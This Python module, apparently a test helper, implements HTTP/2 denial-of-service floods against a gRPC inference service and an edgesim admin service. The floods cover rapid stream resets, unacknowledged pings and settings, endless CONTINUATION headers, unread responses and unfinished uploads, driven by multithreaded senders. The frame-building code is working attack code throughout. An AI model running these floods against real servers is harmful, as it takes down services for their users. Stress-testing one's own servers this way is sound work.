"""Floods of HTTP/2 frames that carry no request to its end, or whose answers nobody takes.

They are attacks that servers of HTTP/2 had to learn: streams that are reset at once
(CVE-2023-44487), pings and settings whose acknowledgements are not read (CVE-2019-9512 and 9515),
a block of headers without end (CVE-2024-27316), and answers that are not read (CVE-2019-9517).
"""

from __future__ import annotations

import contextlib
import itertools
import select
import socket
import struct
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from typing import Any, Literal

DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INFER = "/inference.GRPCInferenceService/ModelInfer"
LIVE = "/inference.GRPCInferenceService/ServerLive"
STATUS = "/edgesim.admin.v1.Admin/Status"
OFFER = "/edgesim.admin.v1.Admin/Offer"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_EMPTY = struct.pack(">BI", 0, 0)
"""An empty message, with gRPC's prefix."""
_UNFINISHED = 200
"""Calls of one connection that are left unfinished, as many as a node lets it open."""


def frame(kind: int, flags: int = 0, stream: int = 0, body: bytes = b"") -> bytes:
    """Return one frame."""
    return len(body).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + body


def headers(path: str, more: Sequence[tuple[str, str]] = ()) -> bytes:
    """Return the block of headers of a call; names and values are shorter than 127 letters."""
    fields = (
        (":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "localhost"),
        ("content-type", "application/grpc"), ("te", "trailers"), *more,
    )  # fmt: skip
    return b"".join(
        b"\0" + b"".join(bytes([len(text)]) + text.encode() for text in pair) for pair in fields
    )


def _resets() -> Iterator[bytes]:
    block, reason = headers(INFER), struct.pack(">I", 8)
    for stream in itertools.count(1, 2):
        yield frame(HEADERS, END_HEADERS, stream, block) + frame(RESET, 0, stream, reason)


def _endless_headers() -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, headers(INFER))
    for number in itertools.count():
        yield frame(CONTINUATION, 0, 1, headers(INFER, [(f"x-{number}", "y" * 100)]))


def _large_headers() -> Iterator[bytes]:
    block = headers(INFER, [(f"x-{number}", "z" * 120) for number in range(100)])
    for stream in itertools.count(1, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block)


def _calls(path: str) -> Iterator[bytes]:
    block = headers(path)
    for stream in itertools.count(1, 2):
        yield frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, _EMPTY)


def _unfinished() -> Iterator[bytes]:
    block, begin = headers(OFFER), struct.pack(">BI", 0, 4_000_000) + bytes(16_000)
    for stream in range(1, 2 * _UNFINISHED, 2):
        yield frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, begin)


@dataclass(frozen=True)
class Flood:
    """One kind of flood.

    Attributes:
        frames: gives what is sent, piece by piece.
        reads: whether the client takes what the node sends.
        service: which one is attacked.
        window: bytes of answers that a stream may send; None for the protocol's own.
    """

    frames: Callable[[], Iterator[bytes]]
    reads: bool = True
    service: Literal["inference", "admin"] = "inference"
    window: int | None = None


FLOODS = {
    "streams that are reset at once": Flood(_resets),
    "pings, acknowledgements not read": Flood(
        lambda: itertools.repeat(frame(PING, 0, 0, b"12345678")), reads=False
    ),
    "settings, acknowledgements not read": Flood(
        lambda: itertools.repeat(frame(SETTINGS)), reads=False
    ),
    "headers without end": Flood(_endless_headers),
    "100 headers of 120 bytes": Flood(_large_headers),
    "answers not read": Flood(lambda: _calls(LIVE), reads=False, window=0),
    "calls of the admin service, by a client": Flood(lambda: _calls(STATUS), service="admin"),
    "unfinished offers, by a client": Flood(_unfinished, service="admin"),
}


def send(flood: Flood, connect: Callable[[], socket.socket], stopped: threading.Event) -> int:
    """Send until stopped, over new connections where the node closes one; return the bytes."""
    sent = 0
    while not stopped.is_set():
        with contextlib.suppress(OSError), connect() as peer:
            peer.settimeout(0.2)
            window = b"" if flood.window is None else struct.pack(">HI", 4, flood.window)
            peer.sendall(PREFACE + frame(SETTINGS, 0, 0, window))
            frames = flood.frames()
            while not stopped.is_set() and (some := b"".join(itertools.islice(frames, 50))):
                try:
                    peer.sendall(some)
                except TimeoutError:
                    # The node takes no more as long as its answers are not read.
                    stopped.wait()
                sent += len(some)
                while flood.reads and select.select([peer], [], [], 0.0)[0]:
                    if not peer.recv(65_536):
                        raise ConnectionResetError
            stopped.wait()
        time.sleep(0.01)
    return sent


@contextlib.contextmanager
def flooding(
    flood: Flood, connect: Callable[[], socket.socket], connections: int
) -> Iterator[list[int]]:
    """Flood from so many connections meanwhile; at the end the list has the bytes of each."""
    stopped = threading.Event()
    sent: list[int] = []

    def run(*_: Any) -> None:
        sent.append(send(flood, connect, stopped))

    threads = [threading.Thread(target=run) for _ in range(connections)]
    for thread in threads:
        thread.start()
    try:
        yield sent
    finally:
        stopped.set()
        for thread in threads:
            thread.join()
